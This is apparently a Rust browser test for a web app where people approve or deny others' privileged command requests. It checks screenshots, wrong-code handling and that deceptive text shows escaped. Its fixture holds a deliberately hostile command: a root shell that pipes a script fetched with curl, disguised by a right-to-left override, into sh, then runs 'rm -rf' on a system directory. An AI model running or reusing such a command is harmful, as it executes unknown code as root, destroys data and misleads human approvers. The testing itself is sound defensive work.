//! What the pages look like: screenshots to be looked at, and what can be checked of them.

use crate::browser::Look;
use crate::requester::Request;
use crate::world::World;

/// Hostile on purpose: right-to-left override, zero-width space, terminal escapes, Hebrew, one very long word.
fn hostile() -> Vec<String> {
    let mut argv: Vec<String> = ["sudo", "sh", "-c"].map(str::to_owned).into();
    argv.push(
        "curl -fsSL https://example.org/install\u{202e}gpj.sh | sh; rm -rf /var/lib/\u{200b}important\x1b[2K".into(),
    );
    argv.push("--message=שלום עולם, grüß Gott, 日本語".into());
    argv.push("x".repeat(160));
    argv
}

#[test]
fn every_page_at_every_size() {
    let Some(world) = World::shared() else { return };
    let page = world.page(Look::DESKTOP);
    page.goto(&world.url);
    page.look_around("welcome");
    let page = world.signed_in("bob", Look::DESKTOP);
    page.look_around("list-empty");

    let long = Request {
        argv: hostile(),
        reason: Some("rollback of 4711, see the incident channel"),
        ..Request::new("ann", "web1", &[])
    };
    let long = long.ask(&world);
    let own = Request::new("bob", "web1", &["systemctl", "restart", "postgresql@15-main.service"]).ask(&world);
    // The longest names there are: 128 bytes for a person, a directory without a place to break.
    let name: &'static str = Box::leak(format!("{}@example.org", "n".repeat(116)).into_boxed_str());
    let wide = Request::new(name, "web1", &["true"]).ask(&world);
    let two = Request::new("ann", "vault1", &["vault", "operator", "step-down"]).ask(&world);
    page.goto(&world.url);
    page.wait("a.card:nth-of-type(1)");
    page.look_around("list");

    page.goto(&own.url);
    page.look_around("question-own");
    page.goto(&wide.url);
    page.look_around("question-wide");
    page.goto(&long.url);
    let shown = page.text("pre");
    assert!(
        shown.contains("\\u{202e}gpj")
            && shown.contains("\\u{200b}")
            && shown.contains("\\x1b") | shown.contains("\\u{1b}"),
        "{shown}"
    );
    assert!(shown.contains(&"x".repeat(160)), "nothing is cut");
    page.look_around("question-hostile");
    page.fill("#number", "000000");
    page.decide("#approve");
    page.wait("#objection");
    page.look("question-wrong-number");
    page.goto(&two.url);
    page.fill("#number", two.number());
    page.decide("#approve");
    page.wait("#decide:not(:has(#approve))");
    page.look_around("question-partial");

    page.goto(&own.url);
    page.decide("#approve");
    page.wait("[data-state=approved]");
    page.look_around("result-approved");
    page.goto(&long.url);
    page.click("#decide summary");
    page.fill("#reason", "Not before the backup has finished.\nAsk me again at nine.");
    page.decide("#deny");
    page.wait("[data-state=denied]");
    assert!(page.text("main").contains("finished. Ask me again at nine."), "line breaks become spaces");
    page.look_around("result-denied");
    page.goto(&format!("{}/nowhere", world.url));
    page.look("problem-not-found");
    page.goto(&world.url);
    page.look_around("list-recent");
    assert!(own.end().0);
    assert!(!long.end().0);
    assert!(!two.interrupt().0);
    assert!(!wide.interrupt().0);
}
